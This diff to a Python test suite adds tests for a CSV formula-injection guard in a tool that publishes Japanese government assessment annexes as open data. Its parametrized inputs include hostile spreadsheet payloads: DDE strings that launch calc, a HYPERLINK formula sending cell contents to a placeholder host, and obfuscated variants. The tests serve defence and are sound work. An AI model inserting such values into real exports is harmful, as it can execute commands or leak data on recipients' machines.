@@ -6,8 +6,11 @@ import csv
 import io
 import json
 
+import pytest
+
 from tenken.core.assessment import assess
-from tenken.report.opendata import annex_csv, columns
+from tenken.csvsafe import GUARD_RULE, neutralize, to_csv
+from tenken.report.opendata import annex_csv, column_dictionary, columns
 
 
 def read_csv(path) -> list[list[str]]:
@@ -50,11 +53,89 @@ def test_the_json_and_the_column_dictionary_describe_the_same_columns(final, fy2
     assert list(document["measures"][0]) == keys
     dictionary = read_csv(final["columns"])
     assert dictionary[0] == ["列名（CSV）", "キー（JSON）", "説明"]
-    assert [row[1] for row in dictionary[1:]] == keys
+    assert [row[1] for row in dictionary[1:-1]] == keys
     assert all(row[2] for row in dictionary[1:])
+    assert dictionary[-1][1] == ""  # the closing note is not a column
 
 
 def test_a_measure_result_round_trips_into_the_json(final):
     document = json.loads(final["json"].read_text(encoding="utf-8"))
     row = next(m for m in document["measures"] if m["key"] == "I-1-イ-1")
     assert row["actual"] == "(1)841,586PV (2)83,640PV" and row["rating"] == "△"
+
+
+def annex_rows(assessment) -> tuple[list[str], dict[str, dict[str, str]]]:
+    rows = list(csv.reader(io.StringIO(annex_csv(assessment).lstrip("\ufeff"), newline="")))
+    return rows[0], {row[1]: dict(zip(rows[0], row)) for row in rows[1:]}
+
+
+def with_reason(assessment, key: str, reason: str):
+    changed = tuple(r.model_copy(update={"reason": reason}) if r.measure == key else r
+                    for r in assessment.results.results)
+    return assess(assessment.plan, assessment.results.model_copy(update={"results": changed}))
+
+
+def test_genuine_signed_values_of_the_kanagawa_annex_are_published_unchanged(final):
+    rows = read_csv(final["csv"])
+    row = next(dict(zip(rows[0], r)) for r in rows[1:] if r[1] == "I-3-イ-2")
+    assert (row["目標"], row["実績"]) == ("+1%", "+1.6%(※)")
+    assert not any(cell.startswith("'") for r in rows[1:] for cell in r)
+
+
+@pytest.mark.parametrize("value", ["+1.6%(※)", "-3件", "+2.5ポイント", "-1,000人", "+1%", "-0.5", "−3件", "＋１．６％（※）",
+                                   "+ 2件", "-", "+", "-3件(※)", "+1,234.5PV"])
+def test_genuine_values_are_published_unchanged(value):
+    assert neutralize(value, keep_values=True) == value
+
+
+@pytest.mark.parametrize("value", [
+    "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", '+HYPERLINK("http://x.example/?"&A1)', "-SUM(1)", "+A1",
+    "=1+1", "@SUM(1)", "\t=1", "\r=1", "- 実施", "-3件\n=cmd|' /C calc'!A0", "+1 A1:B2", "+1(※)&A1", "+1＋cmd｜x",
+    "-1,,2", "+1\u202e", "-3件!A0", "+1;2",
+])
+def test_values_a_spreadsheet_would_run_stay_guarded(value):
+    assert neutralize(value, keep_values=True) == "'" + value
+    assert neutralize(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["+1%", "-3件", "-"])
+def test_csv_sent_to_departments_keeps_guarding_every_sign_so_excel_round_trips_it(value):
+    assert neutralize(value) == "'" + value
+    assert to_csv(["目標"], [[value]]).splitlines()[1] == "'" + value
+
+
+def test_a_reason_that_starts_like_a_formula_is_guarded_in_the_annex_and_a_signed_one_is_not(fy2020):
+    assessment, _ = fy2020
+    _, by_key = annex_rows(with_reason(assessment, "I-1-ア-2", "-2+3+cmd|'/C calc'!A0"))
+    assert by_key["I-1-ア-2"]["未達成の理由及び今後の見込み等"] == "'-2+3+cmd|'/C calc'!A0"
+    _, by_key = annex_rows(with_reason(assessment, "I-1-ア-2", "-3件"))
+    assert by_key["I-1-ア-2"]["未達成の理由及び今後の見込み等"] == "-3件"
+
+
+def test_numbers_are_published_as_numbers(final):
+    document = json.loads(final["json"].read_text(encoding="utf-8"))
+    first = document["measures"][0]
+    assert isinstance(first["fiscal_year"], int) and isinstance(first["number"], int)
+    rows = read_csv(final["csv"])
+    assert {r[0] for r in rows[1:]} == {"2020"} and all(r[rows[0].index("番号")].isdigit() for r in rows[1:])
+    text = to_csv(["a", "b", "c"], [[-3, 2.5, "-3"]], keep_values=True)
+    assert text.splitlines()[1] == "-3,2.5,-3"
+    assert to_csv(["a"], [[-3]]).splitlines()[1] == "-3"  # a number is never prefixed
+
+
+def test_the_json_carries_signed_and_formula_like_values_untouched(fy2020):
+    from tenken.report.opendata import annex_json
+
+    assessment, _ = fy2020
+    document = json.loads(annex_json(with_reason(assessment, "I-1-ア-2", "=SUM(1)"), "別冊"))
+    by_key = {m["key"]: m for m in document["measures"]}
+    assert by_key["I-1-ア-2"]["reason"] == "=SUM(1)"
+    assert (by_key["I-3-イ-2"]["target"], by_key["I-3-イ-2"]["actual"]) == ("+1%", "+1.6%(※)")
+
+
+def test_the_column_dictionary_states_the_guard_rule(fy2020):
+    assessment, _ = fy2020
+    rows = list(csv.reader(io.StringIO(column_dictionary(assessment).lstrip("\ufeff"), newline="")))
+    note = rows[-1]
+    assert note[0].startswith("（注）") and note[2] == GUARD_RULE
+    assert "+1.6%(※)" in GUARD_RULE and "「'」" in GUARD_RULE
